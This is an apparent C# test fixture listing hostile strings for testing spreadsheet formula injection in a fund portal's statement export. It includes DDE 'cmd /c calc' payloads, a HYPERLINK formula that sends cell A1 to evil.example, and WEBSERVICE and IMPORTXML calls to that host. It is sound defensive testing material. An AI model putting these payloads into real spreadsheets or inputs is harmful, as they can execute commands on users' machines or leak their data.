namespace FundPortal.Application.Tests.Statements;

/// <summary>Texts that a spreadsheet may take for a formula, a number, a date or another cell.</summary>
internal static class HostileTexts
{
    public static readonly string[] All =
    [
        "=1+1",
        "=cmd|'/c calc'!A1",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        " =1+1",
        "\u00a0=1+1",
        "\u3000=1+1",
        "'=1+1",
        "''=1+1",
        "\"=1+1\"",
        "=DDE(\"cmd\";\"/c calc\";\"x\")",
        "=WEBSERVICE(\"http://evil.example\")",
        "=IMPORTXML(\"http://evil.example\",\"//a\")",
        "a,b;c\td",
        "x\",=1+1,\"",
        "x\n=1+1",
        "x\r\n=1+1",
        "-12.30",
        "1e5",
        "TRUE",
        "1-2",
        "</t></is></c><c><f>1+1</f></c>",
        "_x003D_1+1",
        "{=1+1}",
        "%0A=1+1",
    ];
}
